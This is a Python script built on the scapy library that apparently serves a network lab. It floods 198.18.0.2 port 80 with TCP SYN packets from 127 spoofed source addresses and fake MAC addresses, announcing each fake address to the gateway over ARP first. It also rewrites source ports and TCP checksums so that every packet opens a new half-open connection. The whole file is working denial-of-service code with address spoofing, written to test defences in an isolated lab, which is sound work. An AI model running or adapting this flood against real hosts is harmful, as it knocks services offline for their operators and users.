#!/usr/bin/python3
"""Runs in the lab namespace: COUNT SYNs to 198.18.0.2:80 from spoofed on-link sources, bounded by
SECONDS; prints how many were sent and at what rate.

usage: syn_flood.py COUNT SECONDS [--max-rate]     (SIGTERM ends it early, counts printed)

The sources are 198.18.0.128-254 on the gateway's /24, each with a made-up MAC that first asks
the gateway for its address (an ARP request addressed to it, which it learns), so the gateway's
SYN-ACKs really go out on the link, as they would to an attacker's spoofed neighbours; the lab's
kernel drops them (not its MAC). --max-rate sends as fast as this process can; otherwise the
rate is bounded so that the flood shares two cores with the clients.
"""
import signal
import socket
import struct
import sys
import time

from scapy.all import ARP, IP, TCP, Ether, conf, get_if_hwaddr, getmacbyip

conf.verb = 0
stop = False


def on_term(signum, frame):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)
count, seconds = int(sys.argv[1]), float(sys.argv[2])
max_rate = "--max-rate" in sys.argv[3:]
gw_mac = getmacbyip("198.18.0.2")
me = get_if_hwaddr("ag0")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("ag0", 0))
sources = [(f"198.18.0.{128 + i}", f"02:5f:c6:12:00:{128 + i:02x}") for i in range(127)]
for ip, mac in sources:
    s.send(bytes(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") /
                 ARP(op=1, hwsrc=mac, psrc=ip, hwdst="00:00:00:00:00:00", pdst="198.18.0.2")))
time.sleep(0.2)
# build frames once, send them raw: scapy's per-packet cost would be the bottleneck
frames = []
for i in range(512):
    ip, mac = sources[i % len(sources)]
    frames.append(bytes(Ether(src=mac, dst=gw_mac) / IP(src=ip, dst="198.18.0.2") /
                        TCP(sport=1024 + i, dport=80, flags="S", seq=i * 7919)))
t0 = time.time()
sent = 0
while sent < count and not stop and time.time() - t0 < seconds:
    base = frames[sent % len(frames)]
    f = bytearray(base)
    # vary the source port so every SYN is a new half-open connection
    new = 1024 + (sent % 60000)
    struct.pack_into("!H", f, 34, new)
    # TCP checksum changes with the port: adjust it incrementally (RFC 1624)
    old = struct.unpack_from("!H", base, 34)[0]
    ck = struct.unpack_from("!H", f, 50)[0]
    x = (~ck & 0xFFFF) + (~old & 0xFFFF) + new
    x = (x & 0xFFFF) + (x >> 16)
    x = (x & 0xFFFF) + (x >> 16)
    struct.pack_into("!H", f, 50, ~x & 0xFFFF)
    s.send(f)
    sent += 1
    if not max_rate and sent % 2000 == 0:
        time.sleep(0.05)  # a bounded rate: the flood shares two cores with the clients
elapsed = max(time.time() - t0, 1e-6)
print(sent)
print(f"{sent} SYNs in {elapsed:.2f} s: {sent / elapsed:.0f}/s", file=sys.stderr)
